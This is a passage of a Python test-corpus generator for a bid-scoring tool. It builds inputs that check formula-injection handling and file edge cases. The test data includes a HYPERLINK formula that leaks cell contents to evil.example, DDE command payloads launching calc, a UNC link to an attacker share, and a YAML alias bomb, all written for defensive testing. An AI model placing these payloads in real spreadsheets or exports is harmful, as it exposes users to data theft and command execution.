        "the base folder with bids.xlsx written by the corpus's own xlsx writer",
        {},
        base=workbook_folder(good_bids),
    )
    ok(
        "ok-webservice-cached",
        "a price formula calling WEBSERVICE, read as its saved value and never calculated",
        {},
        base=workbook_folder(
            bids_xlsx(
                bids_rows(price1=("f", 'WEBSERVICE("https://example.invalid/price")', 950000))
            )
        ),
    )
    ok(
        "ok-scores-xlsx",
        "the base folder with scores.xlsx",
        {S: None, "scores.xlsx": scores_xlsx()},
    )
    risky = {
        "B1": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prices")',
        "B2": "@SUM(A1:A9)",
        "B3": "+1",
        "B4": "-1",
        "B5": "\t=1+1",
        "B6": "\r=cmd|' /C calc'!A0",
        "B7": "=cmd|' /C calc'!A0",
        "B8": "=1+1",
        "B9": "Smith_x0041_ Ltd",  # Excel's own escape syntax, which must come back as typed
    }
    injection = {name: data for name, data in base_files().items() if not name.startswith("bids/")}
    rows = ["bidder,criterion,score,comment"]
    for index, (bidder, name) in enumerate(risky.items()):
        injection[f"bids/{bidder}.json"] = dumps(
            bid_doc(bidder, f"{900000 + 10000 * index}", name=name)
        )
        rows += [
            f'{bidder},Q1,{1 + index % 5},"=SUM(1,2)"',
            f"{bidder},Q2,{5 - index % 5},@comment",
        ]
    injection["scores.csv"] = ("\n".join(rows) + "\n").encode()
    ok(
        "ok-formula-names",
        "bidder names and comments that look like formulas (=, @, +, -, tab, CR)",
        {},
        base=injection,
    )
    rows = ["bidder,criterion,evaluator,score,comment"]
    for index, bidder in enumerate(risky):
        for criterion in ("Q1", "Q2"):
            rows += [
                f"{bidder},{criterion},AH,{1 + index % 5},=1+1",
                f"{bidder},{criterion},BK,{1 + (index + 1) % 5},@A1",
                f'{bidder},{criterion},consensus,{1 + index % 5},"=HYPERLINK(""http://evil.example"",""agreed"")"',
            ]
    ok(
        "ok-formula-names-panel",
        "the same, scored by a panel with formula-like comments and rationales",
        {"scores.csv": ("\n".join(rows) + "\n").encode()},
        base=injection,
    )
    ids = {
        name: data
        for name, data in base_files().items()
        if not name.startswith("bids/") and name != "scores.csv"
    }
    risky_ids = ["=1+1", "+44", "-7", "@A1"]
    rows = ["bidder,criterion,score,comment"]
    for index, bidder in enumerate(risky_ids):
        ids[f"bids/b{index}.json"] = dumps(
            bid_doc(bidder, f"{900000 + index}", name=f"Ordinary name {index}")
        )
        rows += [f"{bidder},Q1,3,x", f"{bidder},Q2,4,y"]
    ids["scores.csv"] = ("\n".join(rows) + "\n").encode()
    ok(
        "ok-formula-ids",
        "bidder ids that look like formulas (they appear in the scores template)",
        {},
        base=ids,
    )
    edges(corpus)
    return corpus


def edges(corpus: Corpus) -> None:
    """Issue 14, trust at the edges: the families a git checkout can hold (links, FIFOs, devices,
    a full disk and concurrent writers are built at test time in tests/test_edges.py)."""
    f = corpus.folder
    T, S = "tender.yaml", "scores.csv"
    f(
        "edge-library-not-a-library",
        "social_value.library names a file that is not a library (its text must not be quoted)",
        {
            T: tender_yaml("library: lib.yaml", "library: secret.txt"),
            "secret.txt": b"password=hunter2\nsecond line\n",
        },
        "secret.txt",
        code="library",
    )
    f(
        "edge-bid-folder-named-json",
        "a folder named B7.json in bids/ (it was skipped silently)",
        {"bids/B7.json/keep.txt": b"a folder, not a bid\n"},
        "bids/B7.json",
        code="not_a_file",
    )
    f(
        "edge-yaml-merge-key",
        "a YAML merge key (<<: *base) in the tender",
        {T: (TENDER + "defaults: &base {a: 1}\nmore:\n  <<: *base\n").encode()},
        T,
        ":21",
        code="malformed_yaml",
    )
    long_title = "x" * 70_000
    f(
        "edge-yaml-alias-long-text",
        "1,000 aliases of one 70,000-character title (the bound counts expanded text, not nodes)",
        {
            T: (
                TENDER + f"note: &t {long_title}\nnotes: [" + ", ".join(["*t"] * 1_000) + "]\n"
            ).encode()
        },
        T,
        code="malformed_yaml",
    )
    f(
        "edge-csv-long-comment",
        "a 140,000-character comment in scores.csv (over the CSV reader's field limit)",
        {S: (SCORES + 'B2,Q3,4,"' + "y" * 140_000 + '"\n').encode()},
        S,
        ":6",
        code="malformed_csv",
    )
    f(
        "edge-xlsx-encrypted",
        "a password-protected bids.xlsx (an encrypted OLE2 package, not a zip)",
        {"bids.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_088)},
        "bids.xlsx",
        code="encrypted_workbook",
        base={k: v for k, v in base_files().items() if not k.startswith("bids/")},
    )
    f(
        "edge-xlsx-20000-sheets",
        "a bids.xlsx whose workbook.xml declares 20,000 sheets",
        {
            "bids.xlsx": xlsx(
                [("Bids", sheet_xml(bids_rows()))], book_extra="<x>" + "<sheet/>" * 20_000 + "</x>"
            )
        },
        "bids.xlsx",
        code="too_many_sheets",
        base={k: v for k, v in base_files().items() if not k.startswith("bids/")},
    )
    unc = (
        f'<Relationship Id="rId99" Type="{_REL}/externalLinkPath"'
        ' Target="\\\\attacker\\share\\prices.xlsx" TargetMode="External"/>'
    )
    f(
        "edge-xlsx-unc-relationship",
        "a bids.xlsx whose relationships point at a UNC path, with no externalLinks part",
        {"bids.xlsx": xlsx([("Bids", sheet_xml(bids_rows()))], book_rels_extra=unc)},
        "bids.xlsx",
        code="external_links",
        base={k: v for k, v in base_files().items() if not k.startswith("bids/")},
    )


def main() -> None:
    target = HERE / CASES
    if target.exists():
        shutil.rmtree(target)
    corpus = generate(HERE)
    corpus.write_manifest()
    bad = sum(1 for line in corpus.lines if line["expect"] == "problems")
    size = sum(p.stat().st_size for p in target.rglob("*") if p.is_file())
    print(f"{bad} bad inputs, {len(corpus.lines) - bad} valid controls; {size:,} bytes in {target}")


if __name__ == "__main__":
    main()
